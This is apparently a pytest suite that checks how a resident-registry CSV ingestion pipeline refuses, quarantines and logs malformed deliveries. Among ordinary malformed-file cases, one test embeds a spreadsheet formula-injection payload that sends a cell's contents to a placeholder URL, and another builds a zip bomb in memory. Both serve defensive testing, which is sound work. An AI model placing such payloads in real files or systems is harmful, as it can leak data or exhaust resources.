"""Every kind of bad delivery ends in a recorded state and a message that names file, line, column, value and the way out."""

from __future__ import annotations

import io
import zipfile

import pytest
from town import HEADER, MONDAY, RESIDENT, Town, ids, person

from shuyuan.flow import Rejected, admit, check, read, receive

PEOPLE = ids(30)
LINES = [person(number) for number in PEOPLE]
NAME = "resident_20261116.csv"


def refusal(town: Town) -> str:
    """Receive and read one delivery that must be refused; what the ledger says of it."""
    batch = receive(RESIDENT, MONDAY)
    assert batch is not None
    with pytest.raises(Rejected) as caught:
        read(batch)
    assert town.state(batch) == "rejected"
    assert town.one("SELECT count(*) FROM source.public_security__resident") == 0
    ((outcome, message),) = town.ask(
        "SELECT outcome, message FROM ledger.load WHERE batch_id = %s AND step = 'read'", batch
    )
    assert outcome == "refused"
    assert str(caught.value) in message
    assert town.one("SELECT reason FROM ledger.batch WHERE batch_id = %s", batch) is not None
    return str(message)


def quarantined(town: Town) -> list[tuple[object, ...]]:
    admit(check(read(receive(RESIDENT, MONDAY) or 0)))
    return town.ask("SELECT line, item, reason FROM ledger.quarantine ORDER BY line")


def test_an_empty_file(town: Town) -> None:
    town.drop(NAME, b"", rows=0)
    message = refusal(town)
    assert "empty_file" in message
    assert "Way out" in message


def test_a_header_without_rows(town: Town) -> None:
    town.register(MONDAY, [])
    message = refusal(town)
    assert "header_only" in message
    assert NAME in message


def test_a_missing_column(town: Town) -> None:
    town.register(
        MONDAY,
        [line.rsplit(",", 1)[0] for line in LINES],
        header=HEADER.replace(",联系电话", "").replace("姓名", "人名", 1),
    )
    message = refusal(town)
    assert "姓名" in message or "name" in message
    assert "Way out" in message


def test_an_extra_column_is_a_finding_and_costs_no_row(town: Town) -> None:
    town.register(MONDAY, [f"{line},无" for line in LINES], header=HEADER + ",新增列")
    assert quarantined(town) == []
    assert town.ask("SELECT kind, severity FROM ledger.finding WHERE kind = 'extra_column'") == [
        ("extra_column", "info")
    ]
    assert "新增列" in town.one("SELECT message FROM ledger.finding WHERE kind = 'extra_column'")


def test_reordered_columns_are_read_by_name(town: Town) -> None:
    def moved(line: str) -> str:
        cells = line.split(",")
        return ",".join([*cells[1:], cells[0]])

    town.register(MONDAY, [moved(line) for line in LINES], header=moved(HEADER))
    assert quarantined(town) == []
    assert sorted(key for (key,) in town.ask("SELECT id_no FROM source.public_security__resident")) == sorted(PEOPLE)
    assert town.one("SELECT count(*) FROM ledger.finding WHERE kind = 'reordered'") == 1


def test_another_encoding_than_declared_is_read_by_content(town: Town) -> None:
    town.drop(NAME, "".join(f"{line}\n" for line in [HEADER, *LINES]).encode("utf-8-sig"), rows=30)
    assert quarantined(town) == []
    assert town.one("SELECT count(*) FROM ledger.finding WHERE kind = 'encoding_by_content'") == 1


def test_bytes_that_no_encoding_decodes_cost_their_row_only(town: Town) -> None:
    text = "".join(f"{line}\n" for line in [HEADER, *LINES]).encode("gb18030")
    lines = text.split(b"\n")
    lines[4] = lines[4].replace("罗湖".encode("gb18030"), b"\xff\xfe\xff")
    town.drop(NAME, b"\n".join(lines), rows=30)
    assert quarantined(town) == [(5, "hukou_address", "undecodable")]


def test_a_file_cut_short_against_its_control_file(town: Town) -> None:
    town.register(MONDAY, LINES[:20], rows=30)
    message = refusal(town)
    assert "truncated" in message
    assert "20 data rows" in message
    assert "30" in message
    assert "send it again" in message


def test_a_control_file_without_a_number(town: Town) -> None:
    town.register(MONDAY, LINES).with_name(NAME + ".ok").write_text("OK")
    with pytest.raises(Rejected, match=r"resident_20261116\.csv\.ok.*'OK'.*Way out"):
        receive(RESIDENT, MONDAY)
    assert town.ask("SELECT step, outcome FROM ledger.load") == [("receive", "refused")]


def test_a_delivery_waits_for_its_control_file(town: Town) -> None:
    path = town.register(MONDAY, LINES)
    path.with_name(NAME + ".ok").unlink()
    assert receive(RESIDENT, MONDAY) is None


def test_the_same_key_twice_in_one_file(town: Town) -> None:
    town.register(MONDAY, [*LINES, LINES[0], person(PEOPLE[1], "另一个人")])
    assert quarantined(town) == [(3, None, "key_conflict"), (32, None, "duplicate_row"), (33, None, "key_conflict")]
    message = town.one("SELECT message FROM ledger.quarantine WHERE line = 33")
    assert "第 3 行" in message


def test_a_field_of_ten_megabytes(town: Town) -> None:
    huge = LINES[2].replace("广东省", "广" * 5_000_000)
    town.register(MONDAY, [*LINES[:2], huge, *LINES[3:]])
    assert quarantined(town) == [(4, "hukou_address", "field_too_large")]
    assert town.one("SELECT length(raw) FROM ledger.quarantine") < 10_000


def test_nul_bytes(town: Town) -> None:
    text = "".join(f"{line}\n" for line in [HEADER, *LINES]).replace(LINES[6], LINES[6].replace("广东省", "广\0东省"))
    town.drop(NAME, text.encode("gb18030"), rows=30)
    assert quarantined(town) == [(8, "hukou_address", "nul_byte")]


def test_a_formula_stays_text(town: Town) -> None:
    formula = '=HYPERLINK("http://x"&A1)'
    quoted = LINES[0].replace(",H1,", f',"{formula.replace(chr(34), chr(34) * 2)}",')
    town.register(MONDAY, [quoted, *LINES[1:]])
    assert quarantined(town) == []
    assert town.one("SELECT hukou_no FROM source.public_security__resident WHERE id_no = %s", PEOPLE[0]) == formula
    assert town.ask("SELECT item, reason, rows FROM ledger.evidence WHERE reason = 'text_formula'") == [
        ("hukou_no", "text_formula", 1)
    ]


def test_a_zip_bomb(town: Town) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("resident.csv", HEADER.encode() + b"\n" + b"0" * 200_000_000)
    town.drop(NAME, buffer.getvalue(), rows=1)
    message = refusal(town)
    assert "bomb" in message
    assert "Way out" in message


def test_a_web_page_instead_of_a_table(town: Town) -> None:
    town.drop(NAME, "<!DOCTYPE html><html><body>登录超时</body></html>".encode(), rows=1)
    assert "unknown_format" in refusal(town)


def test_a_ragged_row_is_set_aside_with_its_text(town: Town) -> None:
    town.register(MONDAY, [LINES[0].replace("广东省", "广东省,"), *LINES[1:]])
    assert quarantined(town) == [(2, None, "ragged_row")]
    assert PEOPLE[0] in town.one("SELECT raw FROM ledger.quarantine")
